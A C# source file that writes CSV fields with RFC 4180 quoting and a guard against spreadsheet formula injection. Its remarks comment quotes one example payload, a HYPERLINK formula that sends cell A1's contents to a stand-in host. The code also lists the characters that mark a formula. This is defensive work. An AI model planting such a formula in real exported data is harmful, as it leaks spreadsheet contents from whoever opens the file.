using System.Buffers;

namespace Interdict.Hosting.Csv;

/// <summary>Writes one field of CSV output: quoted when it must be (RFC 4180), and guarded against formula injection.</summary>
/// <remarks>A spreadsheet runs a cell that starts with <c>=</c>, <c>+</c>, <c>-</c> or <c>@</c> (or a tab or carriage
/// return before one) as a formula: a name such as <c>=HYPERLINK("http://x/?"&amp;A1,"Click")</c> from an input file or
/// a list would run on the analyst's machine when the results are opened. As OWASP's CSV-injection advice says, such a
/// cell is prefixed with a single quote, which the spreadsheet shows as text; the value is otherwise unchanged.
/// Hand-written on purpose: it is the guard, and the quoting is four lines. Numbers written by the program itself
/// (scores, ranks) do not go through it.</remarks>
public static class CsvOutput
{
    static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];
    static readonly SearchValues<char> NeedQuotes = SearchValues.Create(",;\"\n\r\t");

    /// <summary>The text of one field, guarded and quoted as needed.</summary>
    /// <param name="value">The value; null is written as an empty field.</param>
    public static string Field(string? value)
    {
        value = Guard(value);
        return value.AsSpan().IndexOfAny(NeedQuotes) >= 0 ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;
    }

    /// <summary>The value guarded against formula injection but not quoted, for a CSV writer that quotes (Sep).</summary>
    /// <param name="value">The value; null is an empty field.</param>
    public static string Guard(string? value)
    {
        if (string.IsNullOrEmpty(value)) return "";
        return Array.IndexOf(FormulaStarts, value[0]) >= 0 ? "'" + value : value;
    }
}
